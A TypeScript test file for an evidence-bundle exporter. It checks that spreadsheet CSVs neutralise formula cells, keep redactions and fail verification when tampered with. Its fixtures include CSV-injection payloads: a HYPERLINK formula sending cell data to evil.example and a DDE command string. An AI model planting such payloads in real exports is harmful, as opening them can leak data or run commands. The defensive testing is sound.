import { createHash } from 'node:crypto';
import { bagInfoText } from '../../../lib/evidence/bag-info.ts';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import * as v from 'valibot';
import { nodeHasher } from '../../../lib/cli/node-hashing.ts';
import { smallFile, type BagFile } from '../../../lib/evidence/bag-file.ts';
import { PATHS } from '../../../lib/evidence/bundle-format.ts';
import { utf8 } from '../../../lib/evidence/byte-text.ts';
import { captureSwitch, redactionOf } from '../../../lib/evidence/redaction.ts';
import { manifestText, sealTagFiles, signatureFiles } from '../../../lib/evidence/tag-files.ts';
import { verifyBundle } from '../../../lib/evidence/verify-bundle.ts';
import type { Verification } from '../../../lib/evidence/verification.ts';
import type { IncidentHistory } from '../../../lib/incidents/incident.ts';
import {
  aCapture,
  aFullStory,
  aSource,
  bundleBytes,
  MOMENT,
  SCREENSHOT,
  SNAPSHOT,
  theKey,
} from './a-bundle.ts';
import { aMiss, DAY, START } from '../watch/a-watched-page.ts';
import { startsFormula, unguarded } from './sheet-cells.ts';
import { pack, unpack, withFile, type Unpacked } from './unpacked.ts';
import { WATCHED_BYTES, watchedStory } from './watched-story.ts';

const TOP = 'bundle-2026-11-23';
const TABLES = [
  ['data/incidents.csv', 'data/for-spreadsheets/incidents-sheet.csv'],
  ['data/observations.csv', 'data/for-spreadsheets/observations-sheet.csv'],
  ['data/coverage.csv', 'data/for-spreadsheets/coverage-sheet.csv'],
] as const;

/** SHA-256 of the three tables of this very bundle, written by the version that knew the machine flavour alone. */
const AS_BEFORE = [
  'd769ae7b60f2adfe9d1151f975103e67763f08420ed3c096239482a2a9ee2180',
  'c386f223b3431add8800be51283575f567e7a1cdf5ed1f43fbdae55f41dc43ce',
  'fb549f17a6f20f50d9eb38c063a2f81621cf1a689f6bade9da821f55c01934e1',
];

const HOSTILE = {
  note: '=HYPERLINK("http://evil.example/?"&A1),\r\n+"quoted" 引号',
  noticeText: "＝cmd|' /C calc'!A0",
  tags: ['=1+1', '@SUM(1)'],
};

let files: Unpacked[];
beforeAll(async () => {
  const story = watchedStory([{}]);
  const hostile = aFullStory('a', { ...HOSTILE, confidential: ['title'] }).map((fact) =>
    fact.type === 'observation' ? { ...fact, title: '\t@SUM(1+1)', utcOffset: -480 } : fact,
  );
  const facts = [
    ...hostile,
    ...aFullStory('b', { note: "'-1", urlTyped: '-2+3', kind: 'access-failure' }),
    ...story.facts,
    aMiss(story.page, START + DAY, 2),
  ];
  const kept = [SCREENSHOT, SNAPSHOT, ...WATCHED_BYTES];
  // The picture of the first, whose title stays behind, is that of the others, too.
  const on = new Map([[captureSwitch(aCapture('', SCREENSHOT)), true]]);
  const redact = (all: readonly IncidentHistory[]) => redactionOf('recipient', all, on);
  files = await unpack(await bundleBytes(await aSource(facts, kept), { redact }));
});

function textOf(path: string): string {
  const content = files.find(([name]) => name === `${TOP}/${path}`)?.[1];
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(content);
}

/** Rows as Python's csv module reads them; `utf-8-sig` takes the byte order mark off, as Excel does. */
function rowsInPython(text: string): string[][] {
  const folder = mkdtempSync(join(tmpdir(), 'sensitive-days-sheet-'));
  try {
    const file = join(folder, 'table.csv');
    writeFileSync(file, text);
    const program =
      'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))))';
    const run = spawnSync('python3', ['-c', program, file], { encoding: 'utf8' });
    if (run.status !== 0) throw new Error(run.stderr);
    return v.parse(v.array(v.array(v.string())), JSON.parse(run.stdout));
  } finally {
    rmSync(folder, { recursive: true });
  }
}

describe('the tables for spreadsheets', () => {
  it.each(TABLES)('say the same as %s, and no cell starts a formula', (machine, sheet) => {
    const text = textOf(sheet);
    expect(text.startsWith('\ufeff"')).toBe(true);
    expect(textOf(machine).startsWith('\ufeff')).toBe(false);
    const rows = rowsInPython(text);
    const numbers = rows.flat().filter((cell) => /^-?\d+$/.test(cell));
    expect(numbers.length).toBeGreaterThan(0);
    for (const cell of rows.flat()) {
      if (!/^-\d+$/.test(cell)) expect(startsFormula(cell), cell).toBe(false);
    }
    expect(rows.map((row) => row.map(unguarded))).toEqual(rowsInPython(textOf(machine)));
  });

  it('guard what would run, leave what is withheld withheld, and numbers numbers', () => {
    const [head = [], first = []] = rowsInPython(textOf(TABLES[0][1]));
    const cell = (column: string) => first[head.indexOf(column)];
    expect(cell('note')).toBe('\'=HYPERLINK("http://evil.example/?"&A1),\r\n\'+"quoted" 引号');
    expect(cell('notice_text')).toMatch(/^\[withheld\]$|^'＝/);
    expect(cell('title')).toBe('[withheld]');
    const [seen = [], ...looks] = rowsInPython(textOf(TABLES[1][1]));
    expect(looks.map((row) => row[seen.indexOf('utc_offset')])).toContain('-480');
  });

  it('leave the machine flavour byte for byte as it was before there were any', () => {
    const hashes = TABLES.map(([machine]) =>
      createHash('sha256').update(textOf(machine)).digest('hex'),
    );
    expect(hashes).toEqual(AS_BEFORE);
  });
});

describe('a bundle that is signed anew by its own key', () => {
  it('is whole as long as its tables say what its records say', async () => {
    const verification = await verified(await signedAnew(files));
    expect(verification.firstBad).toBeNull();
    const tables = verification.checks.find(({ id }) => id === 'tables');
    expect(tables).toMatchObject({ status: 'holds', count: 7 });
  });

  it.each([
    ['data/incidents.csv', 'access-failure', 'removal'],
    ['data/for-spreadsheets/incidents-sheet.csv', 'access-failure', 'removal'],
    ['data/observations.csv', '404', '200'],
    ['data/for-spreadsheets/observations-sheet.csv', '404', '200'],
    ['data/for-spreadsheets/incidents-sheet.csv', "'=HYPERLINK", '=HYPERLINK'],
    ['data/for-spreadsheets/coverage-sheet.csv', '2026-11-02', '2026-11-03'],
  ])('is broken where %s says otherwise: %s', async (path, from, to) => {
    const lying = withFile(files, path, (content) => {
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(content);
      expect(text).toContain(from);
      return utf8(text.replace(from, to));
    });
    const verification = await verified(await signedAnew(lying));
    expect(verification.checks.filter(({ status }) => status === 'fails')).toMatchObject([
      { id: 'tables', bad: [{ item: path, code: 'told-differently' }] },
    ]);
  });

  it.each([
    ['a look more', /,1,1,1,0,0,0,0,0,/, ',2,2,2,0,0,0,0,0,'],
    ['fewer that were missed', ',2,2,0,0,0,0,0,0', ',1,1,0,0,0,0,0,0'],
    ['a page that nobody watched', /$/, `${'ab'.repeat(16)}${',0'.repeat(16)}\r\n`],
    ['a line that is none', /$/, '"open\r\n'],
  ])('is broken where data/coverage.csv tells of %s', async (_, from, to) => {
    const before = textOf('data/coverage.csv');
    const after = before.replace(from, to);
    expect(after).not.toBe(before);
    const lying = withFile(files, 'data/coverage.csv', () => utf8(after));
    const verification = await verified(await signedAnew(lying));
    const failing = verification.checks.filter(({ status }) => status === 'fails');
    expect(failing.map(({ id }) => id)).toEqual(['tables']);
    const items = failing.flatMap(({ bad }) => bad.map(({ item }) => item.replace(/:\d+$/, '')));
    expect(items).toContain('data/coverage.csv');
  });

  it('may lack the tables for spreadsheets: bundles made before there were any do', async () => {
    const old = files.filter(([name]) => !name.includes('/for-spreadsheets/'));
    expect((await verified(await signedAnew(old))).firstBad).toBeNull();
  });
});

async function verified(changed: readonly Unpacked[]): Promise<Verification> {
  return verifyBundle(new Blob([await pack(changed)]), { newHasher: nodeHasher });
}

/** What a maker can do who has the key: lists, description and signatures all fit again. */
async function signedAnew(changed: readonly Unpacked[]): Promise<Unpacked[]> {
  const key = await theKey();
  const source = { ...(await aSource([])), createdAt: MOMENT };
  const description = v.parse(
    v.looseObject({ resources: v.array(v.looseObject({ path: v.string() })) }),
    JSON.parse(textOf(PATHS.dataPackage)),
  );
  const bag = async ([name, content]: Unpacked): Promise<BagFile> =>
    smallFile(name.slice(TOP.length + 1), '', content, nodeHasher);
  const all = await Promise.all(changed.map(bag));
  const payload = all.filter(({ path }) => path.startsWith('data/') && path !== PATHS.dataPackage);
  const byPath = new Map(payload.map((file) => [file.path, file]));
  const resources = description.resources.flatMap((one) => {
    const file = byPath.get(`data/${one.path}`);
    return file ? [{ ...one, bytes: file.size, hash: `sha256:${file.sha256}` }] : [];
  });
  payload.push(
    await smallFile(
      PATHS.dataPackage,
      '',
      JSON.stringify({ ...description, resources }),
      nodeHasher,
    ),
  );
  const manifest = manifestText(payload);
  const { files: signature } = await signatureFiles(manifest, source, key, nodeHasher);
  const tags = [
    ...all.filter(({ path }) =>
      [PATHS.bagit, PATHS.readme, PATHS.verifier].some((one) => one === path),
    ),
    await smallFile(PATHS.bagInfo, '', bagInfoText(source, payload), nodeHasher),
    await smallFile(PATHS.manifest, '', manifest, nodeHasher),
    ...signature,
  ];
  const bagged = [...payload, ...tags, ...(await sealTagFiles(tags, key, nodeHasher))];
  return Promise.all(
    bagged.map(async (file): Promise<Unpacked> => {
      const pieces: Uint8Array<ArrayBuffer>[] = [];
      for await (const piece of file.open()) pieces.push(piece);
      return [`${TOP}/${file.path}`, new Uint8Array(await new Blob(pieces).arrayBuffer())];
    }),
  );
}
